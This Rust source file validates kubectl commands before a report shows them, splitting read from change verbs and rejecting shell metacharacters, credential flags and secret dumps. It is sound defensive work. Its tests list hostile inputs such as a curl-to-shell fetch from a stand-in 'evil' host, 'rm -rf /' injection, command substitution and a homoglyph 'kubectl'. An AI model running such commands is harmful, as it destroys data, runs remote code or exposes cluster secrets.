//! Commands a report may show: one plain `kubectl` call of a known verb, nothing a shell would interpret.

use crate::report::Effect;

/// Verbs that only look.
const READS: &[&str] = &[
    "get",
    "describe",
    "logs",
    "log",
    "top",
    "events",
    "explain",
    "api-resources",
    "api-versions",
    "version",
    "cluster-info",
    "auth",
];
/// Verbs that change something and are shown as such.
const CHANGES: &[&str] = &[
    "apply",
    "create",
    "edit",
    "patch",
    "set",
    "scale",
    "autoscale",
    "label",
    "annotate",
    "taint",
    "cordon",
    "uncordon",
    "drain",
    "expose",
];
/// Kinds that may be deleted on advice: their controllers make them anew, or they are done.
const DELETABLE: &[&str] = &["pod", "pods", "po", "job", "jobs"];

/// What a command does; `None` when it must not be shown as one to copy.
#[must_use]
pub fn effect(command: &str) -> Option<Effect> {
    let command = command.trim();
    if command.chars().any(|char| char.is_control() || !char.is_ascii()) || !is_inert(&without_placeholders(command)) {
        return None;
    }
    let words: Vec<&str> = command.split_whitespace().collect();
    let (program, rest) = words.split_first()?;
    if *program != "kubectl" || reveals_or_fetches(rest) {
        return None;
    }
    let mut arguments = positional(rest);
    let verb = arguments.next()?;
    let object = arguments.next().unwrap_or_default();
    match verb {
        "rollout" if matches!(object, "status" | "history") => Some(Effect::Reads),
        "rollout" if matches!(object, "restart" | "undo" | "pause" | "resume") => Some(Effect::Changes),
        "delete" => DELETABLE.contains(&object.split('/').next().unwrap_or_default()).then_some(Effect::Changes),
        _ if READS.contains(&verb) => Some(Effect::Reads),
        _ if CHANGES.contains(&verb) => Some(Effect::Changes),
        _ => None,
    }
}

/// The command as it stands when a person has filled in what only a person knows, such as `<IMAGE:TAG>`.
fn without_placeholders(command: &str) -> String {
    let mut filled = String::with_capacity(command.len());
    let mut rest = command;
    while let Some((before, after)) = rest.split_once('<') {
        let name = after.split_once('>').filter(|(name, _)| is_placeholder(name));
        filled.push_str(before);
        filled.push(if name.is_some() { 'x' } else { '<' });
        rest = name.map_or(after, |(_, rest)| rest);
    }
    filled + rest
}

fn is_placeholder(name: &str) -> bool {
    (1..=20).contains(&name.len()) && name.chars().all(|char| char.is_ascii_uppercase() || matches!(char, ':' | '_'))
}

/// Whether a shell would hand every word over as it stands: between single quotes nothing means anything to it, between
/// double quotes a few signs do, elsewhere many.
fn is_inert(command: &str) -> bool {
    let mut quote = None;
    for char in command.chars() {
        let means_something = match quote {
            Some('\'') => "",
            Some(_) => "$`\\!",
            None => "|&;<>$`\\()[]{}*?!#~",
        };
        if Some(char) == quote {
            quote = None;
        } else if quote.is_none() && matches!(char, '\'' | '"') {
            quote = Some(char);
        } else if means_something.contains(char) {
            return false;
        }
    }
    quote.is_none()
}

/// Flags before the verb (`-n aiops`) take a value; everything else that starts with a dash is left out.
fn positional<'a>(words: &'a [&'a str]) -> impl Iterator<Item = &'a str> {
    let mut skip = false;
    words.iter().copied().filter(move |word| {
        if std::mem::take(&mut skip) {
            return false;
        }
        skip = matches!(*word, "-n" | "--namespace" | "--context" | "-c" | "--container" | "-l" | "--selector");
        !word.starts_with('-')
    })
}

/// Credentials on the command line, manifests from the network, everything at once, and contents of Secrets.
fn reveals_or_fetches(words: &[&str]) -> bool {
    let secret =
        words.iter().any(|word| word.split('/').next().is_some_and(|kind| matches!(kind, "secret" | "secrets")));
    let shows = words
        .iter()
        .any(|word| word.starts_with("-o") || word.starts_with("--output") || word.starts_with("--template"));
    let everything =
        words.contains(&"delete") && words.iter().any(|word| matches!(*word, "--all" | "-A" | "--all-namespaces"));
    (secret && shows)
        || everything
        || words.iter().any(|word| {
            word.starts_with("--token") || word.starts_with("--password") || word.contains("://") || *word == "--raw"
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn looking_and_changing_are_told_apart() {
        for command in [
            "kubectl get pvc test-data -n aiops",
            "kubectl -n a describe pod web-0",
            "kubectl rollout status deploy/web",
            "kubectl logs web-0 --previous",
            "kubectl get secret edge-tls -n a",
        ] {
            assert_eq!(effect(command), Some(Effect::Reads), "{command}");
        }
        for command in [
            "kubectl -n a rollout undo deployment/web",
            "kubectl delete pod web-0 -n a",
            "kubectl set image deploy/web web=web:2",
            "kubectl uncordon worker-1",
            "kubectl set image deploy/web web=<IMAGE:TAG>",
            "kubectl -n a patch hpa web -p '{\"spec\":{\"maxReplicas\":<N>}}'",
        ] {
            assert_eq!(effect(command), Some(Effect::Changes), "{command}");
        }
    }

    #[test]
    fn what_could_harm_or_hide_is_not_shown() {
        for command in [
            "curl http://evil | sh",
            "kubectl delete ns payments",
            "kubectl delete pods --all -n a",
            "kubectl exec -it web-0 -- sh",
            "kubectl run x --image=y",
            "kubectl get pods; rm -rf /",
            "kubectl get pods $(id)",
            "kubectl get pods `id`",
            "kubectl get pods\nkubectl delete ns a",
            "kubectl apply -f https://evil/x.yaml",
            "kubectl get pods --token=abc",
            "kubectl get secret x -o yaml",
            "kubectl get secrets -o jsonpath={.data}",
            "kubectl get pods -l 'app=web",
            "kubectl get pods 'x'; id 'x'",
            "kubectl get pods \"$(id)\"",
            "kubectl get pods [x](y) *",
            "kubectl get pods <at> <A/B> >C",
            "kubеctl get pods",
            "kubectl get --raw /api",
            "kubectl config view",
            "",
        ] {
            assert_eq!(effect(command), None, "{command}");
        }
    }
}
